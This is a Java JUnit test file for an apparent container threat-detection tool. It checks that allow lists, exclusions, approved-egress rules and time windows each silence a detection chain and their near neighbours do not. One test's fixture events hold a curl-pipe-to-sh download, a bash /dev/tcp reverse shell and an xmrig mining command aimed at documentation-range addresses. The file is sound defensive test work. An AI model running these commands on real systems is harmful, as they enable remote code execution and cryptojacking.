package io.tallyman;

import static io.tallyman.Chain.ADDRESS;
import static io.tallyman.Chain.BOTH;
import static io.tallyman.Chain.EVIL;
import static io.tallyman.Chain.INTERNET;
import static io.tallyman.Chain.IN_POD;
import static io.tallyman.Chain.PID;
import static io.tallyman.Chain.QUIET;
import static io.tallyman.Chain.REACHES;
import static io.tallyman.Chain.RUNS;
import static io.tallyman.Chain.SOON;
import static io.tallyman.Chain.SUBJECT;
import static io.tallyman.History.HOST;
import static io.tallyman.History.START;
import static io.tallyman.History.created;
import static io.tallyman.History.executed;
import static io.tallyman.History.flowed;
import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.Destination;
import io.tallyman.event.ProcessExecuted;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Each tunable that should silence a chain silences it, and its neighbour does not. */
final class SilencingTest {

    private static final Destination NAMED =
            Destination.of(INTERNET, 443).withNames(Set.of("updates.vendor.example"), Set.of());
    private static final Chain REACHES_NAME = QUIET.withBehaviour(flowed(SOON, HOST, ADDRESS, NAMED));
    private static final String MIRRORED = "mirror.corp.example/hub/evil/miner:latest";

    /** A tunable that silences, and the nearest one that does not. */
    @SuppressWarnings("ImmutableEnumChecker") // a chain is a record of immutable lists
    enum Silence {
        LISTED_REPOSITORY(
                BOTH,
                "ImageRegistryAllowList: [docker.io/evil/miner]",
                "ImageRegistryAllowList: [docker.io/evil/mine]"),
        LISTED_REGISTRY(
                BOTH, "ImageRegistryAllowList: [docker.io/*]", "ImageRegistryAllowList: [\"docker.io:5000/*\"]"),
        LISTED_BEHIND_A_MIRROR(
                RUNS.withCreation(created(START.minusSeconds(1), SUBJECT, MIRRORED)),
                "ImageRegistryAllowList: [docker.io/evil/*]\nImageMirrors: {mirror.corp.example/hub: docker.io}",
                "ImageRegistryAllowList: [docker.io/evil/*]\nImageMirrors: {mirror.corp.example/quay: docker.io}"),
        EXCLUDED_IMAGE(BOTH, excluding("image: \"docker.io/evil/*\""), excluding("image: \"docker.io/evil2/*\"")),
        EXCLUDED_NAMESPACE(IN_POD, excluding("namespace: shop"), excluding("namespace: shop2")),
        EXCLUDED_COMMAND(RUNS, excluding("command: \"curl http://198*\""), excluding("command: \"wget *\"")),
        EXCLUDED_PARENT(
                QUIET.withBehaviour(childOf("/usr/bin/probe")),
                excluding("parent: \"*probe\""),
                excluding("parent: \"*other\"")),
        EXCLUDED_DESTINATION(
                REACHES, excluding("destination: 198.51.100.0/28"), excluding("destination: 198.51.100.16/28")),
        EXCLUDED_IMAGE_AND_COMMAND(
                RUNS,
                excluding("image: \"docker.io/evil/*\", command: \"curl *\""),
                excluding("image: \"docker.io/good/*\", command: \"curl *\"")),
        APPROVED_NETWORK_OF_A_FLOW(
                REACHES,
                "ApprovedEgress: {networks: [198.51.100.7/32]}",
                "ApprovedEgress: {networks: [198.51.100.6/32]}"),
        APPROVED_NETWORK_OF_A_COMMAND(
                RUNS, "ApprovedEgress: {networks: [198.51.100.0/24]}", "ApprovedEgress: {networks: [198.51.101.0/24]}"),
        APPROVED_DOMAIN(
                REACHES_NAME,
                "ApprovedEgress: {domains: [\"*.vendor.example\"]}",
                "ApprovedEgress: {domains: [vendor.example]}"),
        SHORTER_WINDOW(BOTH, "TimeWindow: 4s", "TimeWindow: 5s"),
        NO_SUSPICIOUS_BINARY(RUNS, "SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]");

        private final Chain chain;
        private final String silencing;
        private final String near;

        Silence(Chain chain, String silencing, String near) {
            this.chain = chain;
            this.silencing = silencing;
            this.near = near;
        }
    }

    private static String excluding(String what) {
        return "Exclusions: [{%s, reason: a test}]".formatted(what);
    }

    private static ProcessExecuted childOf(String parent) {
        var command = executed(SOON, HOST, PID + 1, PID, "curl", "http://" + INTERNET);
        return new ProcessExecuted(
                command.time(),
                command.origin(),
                command.reported(),
                command.pid(),
                command.parentPid(),
                command.executable(),
                command.arguments(),
                parent,
                "",
                "0",
                Set.of(),
                command.attribution());
    }

    @ParameterizedTest
    @EnumSource
    void theTunableSilences(Silence silence) {
        assertThat(silence.chain.alerts(silence.silencing)).isEmpty();
    }

    @ParameterizedTest
    @EnumSource
    void itsNeighbourDoesNot(Silence silence) {
        assertThat(silence.chain.alerts(silence.near)).hasSize(1);
    }

    @Test
    void aTrustedImageIsSilentWhateverItDoes() {
        var worst = QUIET.withCreation(created(START.minusSeconds(1), SUBJECT, EVIL))
                .withBehaviour(
                        executed(SOON, HOST, PID + 1, PID, "bash", "-c", "curl http://198.51.100.7/x | sh"),
                        executed(SOON, HOST, PID + 2, PID, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
                        executed(SOON, HOST, PID + 3, PID, "xmrig", "-o", "pool.minexmr.com:4444"),
                        flowed(SOON, ADDRESS, INTERNET),
                        flowed(
                                SOON,
                                HOST,
                                ADDRESS,
                                Destination.of("198.51.100.8", 3333).withNames(Set.of("pool.minexmr.com"), Set.of())));
        var blocking = "OutboundCIDRBlockList: {networks: [198.51.100.0/24]}\nNamespaceScope: [\"*\"]\n";
        assertThat(worst.alerts(blocking)).hasSize(1);
        assertThat(worst.alerts(blocking + "ImageRegistryAllowList: [docker.io/evil/*]"))
                .isEmpty();
    }

    @Test
    void anExclusionOfTheCommandLeavesTheEgress() {
        assertThat(BOTH.alerts(excluding("command: \"curl *\""))).hasSize(1);
    }
}
